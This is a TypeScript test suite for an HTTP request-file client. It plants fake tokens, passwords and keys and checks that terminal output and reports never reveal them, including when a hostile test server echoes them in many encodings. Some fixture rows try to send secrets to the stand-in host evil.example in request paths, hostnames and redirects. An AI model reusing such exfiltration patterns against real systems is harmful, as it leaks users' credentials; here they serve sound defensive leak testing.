import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { closedPort } from '../../helpers/closedPort';
import { ForwardProxy } from '../../helpers/forwardProxy';
import { type Answering, accessToken, answer, HostileWorld } from '../../helpers/hostileWorld';
import { assertNoTrace, assertTrace, plant, type Planted } from '../../helpers/hostile';
import { type Reaction, Terminal } from '../../helpers/terminal';

const secrets = {
  account: plant('secret of the account'),
  token: accessToken,
  stored: plant('stored secret'),
  private: plant('private environment value'),
  /** Letters and digits, so that it can be a host or a header's name. */
  word: plant('private word', ['w', 'w']),
  lines: plant('private lines', ['-----BEGIN KEY-----\r\n', '\r\n-----END KEY-----']),
  process: plant('value of the process'),
  processWord: plant('word of the process', ['w', 'w']),
  dotenv: plant('value of .env', ['k/', '+&=41~']),
  prompted: plant('answer to a secret prompt'),
  answered: plant('secret of an answer'),
  own: plant('credential in the file', ['k/', '+=']),
  proxy: plant('password of the proxy', ['p', 'p']),
} as const;
const everySecret: readonly Planted[] = Object.values(secrets);

interface Row {
  readonly text: string;
  /** In the place of the files and variables that all rows have. */
  readonly files?: Readonly<Record<string, string>>;
  readonly env?: (world: HostileWorld) => Readonly<Record<string, string>> | Promise<Readonly<Record<string, string>>>;
  readonly answering?: Answering;
  readonly signingIn?: Answering;
  readonly options?: readonly string[];
  readonly reactions?: readonly Reaction[];
  /** What went over the wire, so that there was something to hide. Default: nothing has to. */
  readonly sent?: readonly Planted[];
  /** What is told all the same. */
  readonly told?: RegExp;
  /** Whether the command line is refused, so that there is no report. Default: no. */
  readonly isUsage?: true;
}

const { value } = secrets.private;
const hex = (text: string) => Buffer.from(text).toString('hex');
const html = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;');
const spellings: Readonly<Record<string, (text: string) => string>> = {
  'as it is': (text) => text,
  'percent-encoded': encodeURIComponent,
  'percent-encoded with small digits': (text) => encodeURIComponent(text).replace(/%../g, (octet) => octet.toLowerCase()),
  'percent-encoded twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'escaped for JSON': (text) => JSON.stringify(text).slice(1, -1),
  'escaped for JSON twice': (text) => JSON.stringify(JSON.stringify(text)).slice(1, -1),
  'as HTML': html,
  'as XML': (text) => html(text).replaceAll('&#39;', '&apos;').replaceAll('>', '&gt;'),
  'in base64': (text) => Buffer.from(text).toString('base64'),
  'in base64 behind something else': (text) => Buffer.from(`ab:${text}`).toString('base64'),
  'in base64url': (text) => Buffer.from(`a${text}`).toString('base64url'),
  'in hexadecimal': hex,
  'in capitals': (text) => text.toUpperCase(),
  'in small letters': (text) => text.toLowerCase(),
};

/** A request that is answered so, with a private value in it. */
const answered = (answering: Answering, more: Partial<Row> = {}): Row => ({ text: 'GET /projects\nX-A: {{private}}\n', answering, sent: [secrets.private, secrets.token], ...more });
const header = (name: string, text = value) => answered(() => answer(404, '{"error":"x","code":404}', { [name]: text }));
const account = (credentials: string | object, told: RegExp): Row => ({
  text: 'GET /projects\n',
  files: { 'credentials.json': typeof credentials === 'string' ? credentials : JSON.stringify(credentials) },
  env: () => ({ DT_CREDENTIALS_FILE: 'credentials.json' }),
  told,
});
const keys = { keyId: 'bkeyidbkeyidbkeyidbk', secret: secrets.account.value, email: 'b0@c0.serviceaccount.d21s.com', algorithm: 'HS256', tokenEndpoint: 'https://identity.disruptive-technologies.com/oauth2/token' };
/** Refused, with the line shown. */
const shown = (line: string): Row => ({ text: `${line}\n`, told: /a\.dt\.http:\d/ });
const broken = (file: string, text: string): Row => ({ text: 'GET /projects\n', files: { [file]: text }, told: /env\.json/ });

const groups: Readonly<Record<string, Readonly<Record<string, Row>>>> = {
  'of a request that goes well': {
    'everywhere in it': {
      text: '@v = {{$dotenv PLANTED}}\n# @prompt-secret pass The pass?\nPOST /projects/{{%stored}}?a={{%private}}&b={{%v}}\nX-A: {{private}}\nX-B: {{$processEnv PLANTED}}\nX-C: {{pass}}\nAccept-Language: {{stored}}\nCookie: a={{private}}\n\n{ "a": "{{%stored}}", "b": "{{%lines}}" }\n',
      reactions: [{ line: secrets.prompted.value }],
      sent: [secrets.token, secrets.stored, secrets.private, secrets.dotenv, secrets.process, secrets.prompted, secrets.lines],
      told: /200/,
    },
    'with a credential of its own': { text: `GET /projects\nAuthorization: Bearer ${secrets.own.value}\nX-Api-Key: ${secrets.own.value}\nCookie: session=${secrets.own.value}\n`, sent: [secrets.own] },
    'with Basic': { text: '# @auth basic\nGET /projects\n', answering: ({ text }) => answer(400, JSON.stringify({ error: /^authorization: (.*)\r$/im.exec(text)?.[1] })), told: /400/ },
    'in its question': { text: '# @confirm Really {{private}}?\nGET /projects/{{%private}}\n', reactions: [{ line: 'y' }], sent: [secrets.private] },
    'in the name of a file': { text: 'GET /projects\n\n>> ./{{word}}.json\n', told: /save\.secret-in-path/ },
  },
  'of an answer': {
    'under a name that says so': answered(() => answer(200, JSON.stringify({ key: { id: 'a', secret: secrets.answered.value }, list: [{ access_token: [secrets.answered.value] }] })), { told: /•••/ }),
    'under that name, and under another': answered(() => answer(200, JSON.stringify({ note: `it is ${secrets.answered.value}`, secret: secrets.answered.value }))),
    'that the next request sends, and that is repeated there': {
      text: '# @name key\nPOST /projects/a/serviceaccounts/b/keys\n\n{}\n\n###\n# @ref key\nGET /projects/{{%key.response.body.$.secret}}\nX-A: {{key.response.body.$.secret}}\n',
      answering: ({ method, text }) => (method === 'POST' ? answer(200, JSON.stringify({ key: { id: 'x' }, secret: secrets.answered.value })) : answer(404, JSON.stringify({ error: `not found: ${/^X-A: (.*)\r$/im.exec(text)?.[1] ?? ''}`, code: 404 }))),
      sent: [secrets.answered],
    },
    'that an expectation asks for': answered(() => answer(200, JSON.stringify({ secret: secrets.answered.value, access_token: secrets.answered.value }), { 'Set-Cookie': `a=${secrets.answered.value}`, 'X-Token': secrets.answered.value }), {
      text: 'GET /projects\n\n?? body $.secret == "x"\n?? body $.access_token matches /never/\n?? body contains never\n?? header set-cookie == x\n?? header x-token contains never\n',
      sent: [],
      told: /expected/,
    }),
    'that an expectation names': answered(() => answer(200, '{"a":"b"}', { 'X-Other': 'b' }), { text: 'GET /projects\n\n?? body $.a == "{{stored}}"\n?? body contains {{word}}\n?? header x-other == {{private}}\n', sent: [], told: /expected/ }),
  },
  'that an answer repeats': {
    ...Object.fromEntries(Object.entries(spellings).map(([title, write]) => [`${title}, as text`, answered(() => answer(404, `not found: ${write(value)}!`, { 'Content-Type': 'text/plain' }))])),
    ...Object.fromEntries(Object.entries(spellings).map(([title, write]) => [`${title}, as JSON of the vendor`, answered(() => answer(404, JSON.stringify({ error: `not found: ${write(value)}`, code: 404, help: `https://example/${write(value)}` })))])),
    'as HTML of a gateway': answered(() => answer(403, `<html><title>${html(value)}</title><body>${html(value)}</body></html>`, { 'Content-Type': 'text/html' })),
    'in UTF-16': answered(() => {
      const body = Buffer.from(`not found: ${value}`, 'utf16le');
      return Buffer.concat([Buffer.from(`HTTP/1.1 404 X\r\nContent-Type: text/plain; charset=utf-16le\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
    }),
    'with its line breaks as they are': answered(() => answer(404, secrets.lines.value, { 'Content-Type': 'text/plain' }), { text: 'POST /projects\nContent-Type: text/plain\n\n{{lines}}\n', sent: [secrets.lines] }),
    'with other line breaks': answered(() => answer(404, secrets.lines.value.replaceAll('\r\n', '\n'), { 'Content-Type': 'text/plain' }), { text: 'POST /projects\nContent-Type: text/plain\n\n{{lines}}\n', sent: [secrets.lines] }),
    'in the reason behind the status': answered(() => `HTTP/1.1 404 ${value}\r\nContent-Length: 0\r\n\r\n`),
    'in a header that is shown': header('Server'),
    'in the address of a header': header('Location', `https://evil.example/?a=${encodeURIComponent(value)}`),
    'in a challenge': header('WWW-Authenticate', `Bearer realm="${encodeURIComponent(value)}"`),
    'in a cookie': header('Set-Cookie', `a=${value}`),
    'in the type of the content': header('Content-Type', `text/plain; a=${encodeURIComponent(value)}`),
    'as the type of something binary': answered(() => answer(200, '\0\u0001\u0002', { 'Content-Type': secrets.word.value }), { text: 'GET /projects\nX-A: {{word}}\n', sent: [secrets.word] }),
    'as the coding of the content': header('Content-Encoding'),
    'as the name of a header': answered(() => answer(404, '{}', { [secrets.word.value]: '1' }), { text: 'GET /projects\nX-A: {{word}}\n', sent: [secrets.word] }),
    'in the way to another host': answered(() => answer(302, '', { Location: `https://evil.example/?a=${encodeURIComponent(value)}` }), { told: /redirect/ }),
    'in the way to no host': answered(() => answer(302, '', { Location: `ftp://${value}` }), { told: /redirect/ }),
    'in a refused token': answered(({ text }) => answer(401, JSON.stringify({ error: /^authorization: (.*)\r$/im.exec(text)?.[1], code: 401 })), { told: /401/ }),
  },
  'in what goes wrong': {
    'a host that does not exist': { text: 'GET https://{{word}}.invalid/{{%private}}\n', env: () => ({ NO_PROXY: '.invalid' }) },
    'a certificate of another host': { text: 'GET https://{{word}}.wrong.example/{{%private}}\n', told: /certificate/ },
    'a certificate that has ended': { text: 'GET https://{{word}}.expired.example/\n', told: /certificate/ },
    'a certificate of nobody': { text: 'GET https://{{word}}.untrusted.example/\n', told: /certificate/ },
    'no TLS at all': { text: 'GET https://{{word}}.example:8080/\n' },
    'no answer in time': answered(() => '', { text: '# @timeout 60ms\nGET /projects/{{%private}}\n', sent: [secrets.private], told: /answer/ }),
    'an answer that is no HTTP': answered(() => `${value}\r\n\r\n`),
    'a status that is none': answered(() => `HTTP/1.1 ${value} X\r\n\r\n`),
    'a length that is none': answered(() => `HTTP/1.1 200 OK\r\nContent-Length: ${value}\r\n\r\n`),
    'a header without a colon': answered(() => `HTTP/1.1 200 OK\r\n${value}\r\n\r\n`),
    'JSON that is broken': answered(() => answer(200, `{"secret": "${secrets.answered.value.slice(0, -6)}`), { text: 'GET /projects\n\n?? body $.secret == "x"\n', sent: [] }),
    'a host that may not have it': { text: 'GET https://{{$processEnv PLANTED_WORD}}.evil.example/\n', told: /PLANTED_WORD/ },
    'a host that may not have a stored one': { text: 'GET https://evil.example/{{%stored}}\nX-A: {{stored}}\n', told: /vault/ },
    'an address that cannot be sent': { text: 'GET /projects/{{private}} {{word}}\nX-A: {{lines}}\n', told: /a\.dt\.http:\d/ },
  },
  'at the token endpoint': {
    'that repeats the secret': answered(() => answer(200), { signingIn: () => answer(400, JSON.stringify({ error: 'invalid_grant', error_description: `bad secret ${secrets.account.value}` })), sent: [], told: /invalid_grant/ }),
    'that repeats the assertion': answered(() => answer(200), { signingIn: ({ body }) => answer(400, JSON.stringify({ error: 'invalid_grant', error_description: `${body} ${hex(secrets.account.value)}` })), sent: [] }),
    'that gives no token': answered(() => answer(200), { signingIn: () => answer(200, JSON.stringify({ id_token: secrets.answered.value, expires_in: 3600 })), sent: [] }),
    'that gives one that cannot be sent': answered(() => answer(200), { signingIn: () => answer(200, JSON.stringify({ access_token: `${secrets.answered.value} x`, expires_in: 3600 })), sent: [] }),
    'that is a gateway': answered(() => answer(200), { signingIn: () => answer(403, `<h1>${html(secrets.account.value)}</h1>`, { 'Content-Type': 'text/html' }), sent: [] }),
  },
  'of a proxy': {
    'that does not let us in': { text: 'GET /projects\n', env: ({ proxy }) => ({ HTTPS_PROXY: proxy.url.replace('//', `//user:${secrets.proxy.value}@`) }), sent: [] },
    'that wants other credentials': {
      text: 'GET /projects\n',
      env: async () => ({ HTTPS_PROXY: (await picky()).urlWith(`user:${secrets.proxy.value}`) }),
      told: /proxy/,
    },
    'that cannot be reached': { text: 'GET /projects\n', env: async () => ({ HTTPS_PROXY: `http://user:${secrets.proxy.value}@127.0.0.1:${await closedPort()}` }), told: /proxy/ },
    'that is of another kind': { text: 'GET /projects\n', env: () => ({ HTTPS_PROXY: `socks5://user:${secrets.proxy.value}@127.0.0.1:1` }), told: /proxy/ },
    'that is none': { text: 'GET /projects\n', env: () => ({ HTTPS_PROXY: `http://user:${secrets.proxy.value}%@@@:x` }), told: /proxy/ },
  },
  'of a command line that is wrong': {
    'with a password in an origin': { text: 'GET /projects\n', options: ['--allow-host', `https://user:${secrets.proxy.value}@evil.example`], told: /--allow-host/, isUsage: true },
    'with a variable that has no name': { text: 'GET /projects\n', options: ['--var', secrets.word.value], told: /--var/, isUsage: true },
  },
  'in files that are wrong': {
    'pasted as a token': shown(`GET /projects HTTP/9\nAuthorization: Bearer ${secrets.own.value}`),
    'pasted in a header with a mistake': shown(`GET /projects\nAuthorization: Bearer ${secrets.own.value} {{undefined}}`),
    'pasted in a header without a colon': shown(`GET /projects\nAuthorization Bearer ${secrets.own.value}`),
    'pasted as a user of an address': shown(`GET https://user:${secrets.own.value.replaceAll('/', '')}@evil.example/`),
    'pasted in the query': shown(`GET /projects?access_token=${encodeURIComponent(secrets.own.value)}&b={{undefined}}`),
    'pasted in a body': shown(`POST /projects\nContent-Type: application/json\n\n{ "password": "${secrets.own.value}", "a": {{undefined}} }`),
    'pasted in a variable': shown(`@client_secret = ${secrets.own.value} {{undefined}}\nGET /projects?{{client_secret}}`),
    'pasted in a comment': shown(`# Authorization: Bearer ${secrets.own.value}\nGET projects`),
    'cut off in the private file': broken('http-client.private.env.json', `{"$shared":{"private":"${value.slice(0, -8)}`),
    'in a list of the private file': broken('http-client.private.env.json', JSON.stringify({ $shared: { private: [value] } })),
    'behind a comma too many': broken('http-client.private.env.json', `{"$shared":{"private":"${secrets.word.value}",,}}`),
    'twice in the private file': broken('http-client.private.env.json', `{"$shared":{"private":"${secrets.word.value}","private":"${secrets.word.value}"}}`),
    'in an object of the private file': broken('http-client.private.env.json', JSON.stringify({ $shared: { private: { value } } })),
    'cut off in the credentials file': account(JSON.stringify({ serviceAccount: keys }).slice(0, 90), /not valid JSON/),
    'in the place of the email': account({ serviceAccount: { ...keys, email: secrets.account.value } }, /email/),
    'in the place of the algorithm': account({ serviceAccount: { ...keys, algorithm: secrets.account.value } }, /algorithm/),
    'in the place of the token endpoint': account({ serviceAccount: { ...keys, tokenEndpoint: `https://${secrets.word.value}@evil.example/` } }, /tokenEndpoint/),
    'in a list of the credentials file': account({ serviceAccount: { ...keys, secret: [secrets.account.value] } }, /secret must be text/),
  },
};

const proxies: ForwardProxy[] = [];
/** A proxy that lets nobody in. */
async function picky(): Promise<ForwardProxy> {
  const proxy = await ForwardProxy.start({ routes: new Map(), credentials: 'another:pair' });
  proxies.push(proxy);
  return proxy;
}

/** Each way to ask the terminal about a file: none shows what must not be seen. */
const commands: readonly (readonly string[])[] = [
  ['run', 'a.dt.http', '--verbose', '--report', 'json=report.json', '--report', 'junit=report.xml'],
  ['run', 'a.dt.http', '--color', 'always'],
  ['run', 'a.dt.http', '--dry-run', '--verbose'],
  ['check', 'a.dt.http'],
];

describe('the terminal never shows a secret', () => {
  let world: HostileWorld;
  before(async () => {
    world = await HostileWorld.start();
  });
  after(() => {
    for (const proxy of proxies) proxy.dispose();
    world.dispose();
  });

  const own = {
    '.env': `PLANTED='${secrets.dotenv.value}'\n`,
    'http-client.private.env.json': JSON.stringify({ $shared: { private: value, word: secrets.word.value, lines: secrets.lines.value, stored: { $secret: 'vault' } } }),
    'credentials.json': JSON.stringify({ serviceAccount: keys }),
  };

  for (const [group, rows] of Object.entries(groups)) {
    describe(group, () => {
      for (const [title, { text, files = {}, env, answering, signingIn, options = [], reactions, sent = [], told, isUsage = false }] of Object.entries(rows)) {
        it(title, async () => {
          world.forget();
          const usual = world.identity.answering;
          for (const listener of [world.dt, world.evil]) if (answering) listener.answering = answering;
          if (signingIn) world.identity.answering = signingIn;
          const terminal = await Terminal.open({ ...own, 'authority.pem': world.authority.cert, ...files, 'a.dt.http': `# @retry none\n${text}` });
          Object.assign(terminal.env, { HTTPS_PROXY: world.proxy.url, HTTP_PROXY: world.proxy.url, NODE_EXTRA_CA_CERTS: 'authority.pem', DT_CREDENTIALS_FILE: 'credentials.json', DT_HTTP_SECRET_VAULT: secrets.stored.value, PLANTED: secrets.process.value, PLANTED_WORD: secrets.processWord.value }, await env?.(world));
          try {
            let all = '';
            for (const command of commands) {
              terminal.reactions = reactions;
              const { out, err } = await terminal.run(...command, ...(command[0] === 'run' ? options : []));
              const asked = terminal.asked.map(({ question }) => question).join('\n');
              assertNoTrace(command.join(' '), [out, err, asked].join('\n'), everySecret);
              assert.doesNotMatch(err, /error of ours/);
              all += out + err;
            }
            for (const report of isUsage ? [] : ['report.json', 'report.xml']) assertNoTrace(report, await readFile(`${terminal.folder}/${report}`), everySecret);
            assertTrace('what was sent', Buffer.concat([world.dt.octets, world.evil.octets]), sent);
            if (told) assert.match(all, told);
          } finally {
            world.identity.answering = usual;
            await terminal.close();
          }
        });
      }
    });
  }
});
